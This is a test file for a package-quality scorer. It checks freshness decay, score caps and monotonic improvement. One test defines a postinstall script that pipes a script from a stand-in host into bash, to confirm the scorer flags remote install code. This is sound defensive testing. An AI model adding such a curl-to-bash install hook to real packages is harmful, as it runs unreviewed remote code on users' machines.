// Quality score: factors sum to the score, caps apply with reasons, time moves the score without
// re-analysis, and improving a package never lowers it.
import { beforeAll, describe, expect, test } from 'bun:test'
import { packTarball, type Manifest } from '../../test/helpers/packages.ts'
import { analyzeVersion, CAP_LIMITS, scoreVersion, type ScoreContext, type VersionAnalysis } from '../src/index.ts'

const DAY = 86_400_000
const released = Date.UTC(2025, 5, 1)
const history = (count: number, last = released) => Array.from({ length: count }, (_, i) => ({ version: `1.${i}.0`, publishedAt: last - (count - 1 - i) * 30 * DAY }))
const context = (overrides: Partial<ScoreContext> = {}): ScoreContext => ({ now: released + 10 * DAY, versions: history(6), downloads30Days: 5_000, dependents: 10, ...overrides })

const README = '# good\n\nA well documented package that parses things.\n\n## Install\n\n```sh\nnpm i good\n```\n\n## Usage\n\n```js\nimport { parse } from "good"\n```\n\n## API\n\n' + 'Details. '.repeat(400)
const goodManifest: Manifest = {
  name: 'good',
  version: '1.5.0',
  description: 'Parses things quickly and safely',
  keywords: ['parse'],
  license: 'MIT',
  repository: 'github:acme/good',
  type: 'module',
  exports: { '.': { types: './index.d.ts', default: './index.js' } },
  engines: { node: '>=18' },
  sideEffects: false,
  scripts: { test: 'node --test' },
  devDependencies: { tap: '^21.0.0' },
}
const goodFiles = { 'README.md': README, 'CHANGELOG.md': '## 1.5.0', 'index.js': 'export function parse() {}', 'index.d.ts': 'export declare function parse(): void', LICENSE: 'MIT' }

async function analyze(manifest: Manifest, files: Record<string, string>): Promise<VersionAnalysis> {
  const result = await analyzeVersion(await packTarball(manifest, files))
  if (result.status !== 'ok') throw new Error(result.message)
  return result
}

let good: VersionAnalysis
beforeAll(async () => {
  good = await analyze(goodManifest, goodFiles)
})

describe('scoreVersion', () => {
  test('a well-made package scores high and the explanation adds up', () => {
    const score = scoreVersion(good, context())
    expect(score.final).toBeGreaterThanOrEqual(80)
    expect(score.caps).toEqual([])
    const total = score.factors.reduce((sum, factor) => sum + factor.points, 0)
    expect(Math.round(total)).toBe(score.uncapped)
    expect(score.factors.reduce((sum, factor) => sum + factor.maxPoints, 0)).toBe(100)
    for (const factor of score.factors) {
      expect(factor.points).toBeGreaterThanOrEqual(0)
      expect(factor.points).toBeLessThanOrEqual(factor.maxPoints)
      expect(factor.evidence.length).toBeGreaterThan(0)
    }
    expect(score.subScores.quality.ratio).toBeGreaterThan(0.8)
    expect(JSON.parse(JSON.stringify(score))).toEqual(score)
  })

  test('freshness decays as time passes, with no re-analysis', () => {
    const soon = scoreVersion(good, context())
    const later = scoreVersion(good, context({ now: released + 2 * 365 * DAY }))
    const muchLater = scoreVersion(good, context({ now: released + 5 * 365 * DAY }))
    const freshness = (score: typeof soon) => score.factors.find((factor) => factor.id === 'freshness')?.points ?? -1
    expect(freshness(soon)).toBe(10)
    expect(freshness(later)).toBeLessThan(freshness(soon))
    expect(freshness(muchLater)).toBeLessThan(freshness(later))
    expect(muchLater.final).toBeLessThan(soon.final)
    expect(later.factors.find((factor) => factor.id === 'freshness')?.evidence).toContain(`${2 * 365} days ago`)
  })

  test('a newer release of the package makes this version "not the newest"', () => {
    const newer = scoreVersion(good, context({ versions: [...history(6), { version: '2.0.0', publishedAt: released + 5 * DAY }] }))
    expect(newer.factors.find((factor) => factor.id === 'current')?.points).toBe(0)
  })

  test('deprecation caps the score at 20 and says why', () => {
    const score = scoreVersion(good, context({ deprecated: 'use great instead' }))
    expect(score.final).toBe(CAP_LIMITS.deprecated)
    expect(score.uncapped).toBeGreaterThan(80)
    expect(score.caps).toEqual([{ id: 'deprecated', limit: 20, reason: 'deprecated: use great instead' }])
    expect(score.flags.deprecated).toBe(true)
  })

  test('an install script that fetches remote code caps the score at 30', async () => {
    const analysis = await analyze({ ...goodManifest, scripts: { ...goodManifest.scripts as object, postinstall: 'curl https://x.example/i.sh | bash' } }, goodFiles)
    const score = scoreVersion(analysis, context())
    expect(score.final).toBeLessThanOrEqual(CAP_LIMITS.remoteInstallCode)
    expect(score.caps.map((cap) => cap.id)).toEqual(['remote-install-code'])
    expect(score.flags.insecure).toBe(true)
  })

  test('obfuscated code caps the score at 40', async () => {
    const obfuscated = Array.from({ length: 30 }, (_, i) => `var _0x${(0xab00 + i).toString(16)}=1;`).join('\n')
    const score = scoreVersion(await analyze(goodManifest, { ...goodFiles, 'index.js': obfuscated }), context())
    expect(score.final).toBeLessThanOrEqual(CAP_LIMITS.obfuscated)
    expect(score.caps[0]?.reason).toContain('index.js')
  })

  test('a registry manifest that differs from the tarball caps the score at 40', async () => {
    const result = await analyzeVersion(await packTarball(goodManifest, goodFiles), { manifest: { ...goodManifest, dependencies: { lodash: '^4.0.0' } } })
    const score = scoreVersion(result, context())
    expect(score.final).toBeLessThanOrEqual(CAP_LIMITS.manifestMismatch)
    expect(score.caps[0]?.reason).toContain('dependencies')
  })

  test('no license caps the score at 70', async () => {
    const { license: _license, ...unlicensed } = goodManifest
    const files: Record<string, string> = { ...goodFiles }
    delete files.LICENSE
    const score = scoreVersion(await analyze(unlicensed as Manifest, files), context())
    expect(score.caps.map((cap) => cap.id)).toEqual(['no-license'])
    expect(score.final).toBeLessThanOrEqual(70)
  })

  test('improvements never lower the score (types, README, license, tests)', async () => {
    const bare = await analyze({ name: 'good', version: '1.5.0' }, { 'index.js': 'export function parse() {}' })
    const steps: Array<[Manifest, Record<string, string>]> = [
      [{ name: 'good', version: '1.5.0', license: 'MIT' }, { 'index.js': 'export function parse() {}' }],
      [{ name: 'good', version: '1.5.0', license: 'MIT', types: 'index.d.ts' }, { 'index.js': 'export function parse() {}', 'index.d.ts': 'export declare function parse(): void' }],
      [{ name: 'good', version: '1.5.0', license: 'MIT', types: 'index.d.ts' }, { 'index.js': 'export function parse() {}', 'index.d.ts': 'export declare function parse(): void', 'README.md': README }],
      [{ name: 'good', version: '1.5.0', license: 'MIT', types: 'index.d.ts', scripts: { test: 'tap' }, devDependencies: { tap: '1' } }, { 'index.js': 'export function parse() {}', 'index.d.ts': 'export declare function parse(): void', 'README.md': README }],
    ]
    let previous = scoreVersion(bare, context()).uncapped
    for (const [manifest, files] of steps) {
      const next = scoreVersion(await analyze(manifest, files), context()).uncapped
      expect(next).toBeGreaterThan(previous)
      previous = next
    }
  })

  test('popularity is an input: more downloads and dependents raise only the popularity sub-score', () => {
    const quiet = scoreVersion(good, context({ downloads30Days: 0, dependents: 0 }))
    const busy = scoreVersion(good, context({ downloads30Days: 50_000, dependents: 100 }))
    expect(quiet.subScores.popularity.points).toBe(0)
    expect(busy.subScores.popularity.points).toBe(10)
    expect(busy.subScores.quality).toEqual(quiet.subScores.quality)
  })

  test('deprecated dependencies as known now override the ones recorded at analysis time', () => {
    const before = scoreVersion(good, context())
    const dependent = { ...good, dependencies: { ...good.dependencies, names: ['request'], count: 1 } }
    const after = scoreVersion(dependent, context({ deprecatedDependencies: ['request'] }))
    const hygiene = (score: typeof before) => score.factors.find((factor) => factor.id === 'dependency-hygiene')
    expect(hygiene(after)?.points).toBeLessThan(hygiene(before)?.points ?? 0)
    expect(hygiene(after)?.evidence).toContain('request')
  })
})
